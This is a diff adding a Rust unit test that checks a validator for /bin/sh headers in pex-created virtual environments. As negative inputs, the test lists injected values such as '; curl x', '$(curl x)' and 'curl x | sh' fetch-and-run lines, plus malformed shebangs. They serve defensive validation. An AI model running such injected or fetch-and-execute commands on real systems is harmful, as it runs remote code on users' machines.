@@ -780,6 +780,35 @@ mod tests {
         }
     }
 
+    /// The `/bin/sh` header: nothing, a plain interpreter line, or the venv's pex's
+    /// `sh_boot.py` template with plain values in its places.
+    #[test]
+    fn the_header_is_a_plain_shebang_or_pex_s_template_with_plain_values() {
+        let venv = tempfile::tempdir().unwrap();
+        fs::create_dir_all(venv.path().join("pex")).unwrap();
+        let source = concat!(
+            "def f():\n    return dedent(\n        \"\"\"\\\n",
+            "        # INSTALLED_PEX\n        VENV=\"{venv}\"\n        PEX=\"{pex}\"\n",
+            "        \"\"\"\n    ).format(venv=v, pex=p)\n"
+        );
+        fs::write(venv.path().join("pex/sh_boot.py"), source).unwrap();
+        let check = |header: &str| check_header(venv.path(), header.as_bytes(), None);
+        let good = "#!/bin/sh\n# INSTALLED_PEX\nVENV=\"1\"\nPEX=\"$0\"\n";
+        check(good).unwrap();
+        check("").unwrap();
+        check("#!/usr/bin/env python3\n").unwrap();
+        for evil in [
+            good.replace("\"1\"", "\"1\"; curl x"),
+            good.replace("$0", "$(curl x)"),
+            format!("{good}curl x | sh\n"),
+            "#!curl evil\n".to_string(),
+            "#!/bin/sh;curl evil|sh\n".to_string(),
+            "#!/usr/bin/env python3 -c x\n".to_string(),
+        ] {
+            assert!(check(&evil).is_err(), "{evil}");
+        }
+    }
+
     #[test]
     fn pex_s_data_about_a_wheel_must_be_json() {
         check_pex_info_file(br#"{"filename": "six-1.whl"}"#, "info").unwrap();
